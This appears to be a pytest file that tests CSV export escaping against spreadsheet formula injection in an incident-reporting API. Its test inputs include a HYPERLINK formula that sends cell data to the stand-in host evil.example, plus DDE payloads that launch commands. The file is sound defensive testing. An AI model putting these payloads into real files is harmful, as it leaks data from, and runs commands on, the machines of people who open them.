"""CSV cells are neutralised against formula injection, and our own numbers stay numbers."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess

import pytest

from config.csvcell import text_cell
from tests.factories import CARACAS, IncidentFactory, offset

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
DANGEROUS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
             "  =1+1", "\n@x", "\uff1d1+1"]  # fmt: skip


def _rows(api) -> list[dict[str, str]]:
    response = api.get("/api/v1/incidents", {"format": "csv"})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))


def _incidents(texts: list[str]) -> None:
    for i, text in enumerate(texts):
        lon, lat = offset(*CARACAS, east_m=400 * i)
        IncidentFactory(point=f"POINT({lon} {lat})", place=text, note=text)


def test_text_that_starts_a_formula_comes_out_as_text_and_our_numbers_stay_numbers(api):
    plain = ["Peaje de Tazón", "km 5 - Ocumare", "'ya citado"]
    _incidents(DANGEROUS + plain)
    rows = _rows(api)
    assert len(rows) == len(DANGEROUS) + len(plain)
    for row, text in zip(rows, DANGEROUS, strict=False):
        assert row["note"] == row["place"] == "'" + text
    assert [r["note"] for r in rows[len(DANGEROUS) :]] == plain
    for row in rows:
        assert row["lon"].startswith("-66.") and float(row["lon"]) < 0  # a negative longitude, unquoted
        assert float(row["lat"]) > 0 and int(row["reporters"]) == 2 and float(row["confidence"]) >= 0
        assert row["verified"] == "false" and row["kind"] == "checkpoint"
    # The Feature keeps the text as it was written: only the spreadsheet's cell is neutralised.
    features = api.get("/api/v1/incidents").json()["features"]
    assert [f["properties"]["note"] for f in features] == DANGEROUS + plain


@pytest.mark.parametrize(
    "text, cell",
    [
        ("=1", "'=1"),
        ("-66.9", "'-66.9"),  # text that looks like a number is text: a place or a note, never a coordinate
        (" @x", "' @x"),
        ("\x00=1", "'\x00=1"),
        ("a=1", "a=1"),
        ("", ""),
        ("   ", "   "),
    ],
)
def test_the_one_rule_for_text_cells(text, cell):
    assert text_cell(text) == cell


@pytest.mark.skipif(shutil.which("ogrinfo") is None, reason="GDAL's ogrinfo is not installed")
def test_gdal_reads_negative_coordinates_as_numbers_and_notes_as_text(api, tmp_path):
    _incidents([HYPERLINK, "-2+3"])
    path = tmp_path / "incidents.csv"
    path.write_bytes(api.get("/api/v1/incidents", {"format": "csv"}).content)
    out = subprocess.run(
        ["ogrinfo", "-ro", "-al", "-oo", "AUTODETECT_TYPE=YES", str(path)],
        capture_output=True,
        text=True,
        timeout=30,
        check=True,
    ).stdout
    assert "lon: Real" in out and "lat: Real" in out and "reporters: Integer" in out
    assert "note: String" in out
    lons = [line.split("=", 1)[1].strip() for line in out.splitlines() if line.strip().startswith("lon (Real)")]
    assert len(lons) == 2 and all(float(v) < 0 for v in lons)
    assert "note (String) = '=HYPERLINK(" in out and "note (String) = '-2+3" in out
